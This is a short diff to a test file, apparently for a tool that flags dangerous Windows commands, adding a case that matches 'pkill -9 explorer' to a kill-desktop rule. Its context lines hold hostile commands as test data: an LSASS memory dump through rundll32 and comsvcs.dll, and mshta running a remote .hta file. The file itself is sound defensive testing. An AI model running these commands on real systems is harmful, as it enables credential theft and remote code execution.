@@ -118,6 +118,7 @@ test('the machine: critical processes, every process, services, accounts, WSL, t
   gated(['rundll32', 'C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '624', 'lsass.dmp', 'full']);
   gated(['mshta', 'https://x.example/a.hta']);
   assert.deepEqual(ids(['taskkill', '/f', '/im', 'explorer.exe']), ['windows.kill-desktop:60']);
+  assert.deepEqual(ids(['pkill', '-9', 'explorer']), ['windows.kill-desktop:60'], 'Stop-Process -Name explorer -Force');
   quiet(['taskkill', '/pid', '4242', '/f']);
   quiet(['pkill', 'node']);
   quiet(['sc', 'query', 'W3SVC']);
